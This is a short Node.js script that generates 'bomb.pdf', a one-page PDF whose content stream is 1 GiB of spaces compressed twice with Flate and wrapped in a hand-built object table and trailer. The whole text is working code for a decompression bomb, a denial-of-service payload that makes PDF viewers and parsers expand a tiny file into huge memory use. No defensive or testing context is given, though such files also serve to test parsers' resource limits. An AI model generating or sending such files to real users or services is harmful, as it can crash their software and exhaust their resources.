// Writes bomb.pdf: a page whose content is 1 GiB of spaces, deflated twice.
import { writeFileSync } from 'node:fs';
import { createDeflate, deflateSync } from 'node:zlib';

const spaces = Buffer.alloc(2 ** 20, ' ');
const deflate = createDeflate({ level: 9 });
const deflated = Array.fromAsync(deflate);
for (let written = 0; written < 1024; written += 1) {
  if (!deflate.write(spaces)) await new Promise((resolve) => deflate.once('drain', resolve));
}
deflate.end();
const content = deflateSync(Buffer.concat(await deflated), { level: 9 });

const objects = [
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << >> >>',
  `<< /Length ${content.length} /Filter [/FlateDecode /FlateDecode] >>\nstream\n${content.toString('latin1')}\nendstream`,
];
let file = '%PDF-1.7\n';
const offsets = objects.map((object, index) => {
  const offset = file.length;
  file += `${index + 1} 0 obj\n${object}\nendobj\n`;
  return `${String(offset).padStart(10, '0')} 00000 n \n`;
});
const size = objects.length + 1;
const table = `xref\n0 ${size}\n0000000000 65535 f \n${offsets.join('')}`;
writeFileSync(
  'bomb.pdf',
  `${file}${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${file.length}\n%%EOF\n`,
  'latin1',
);
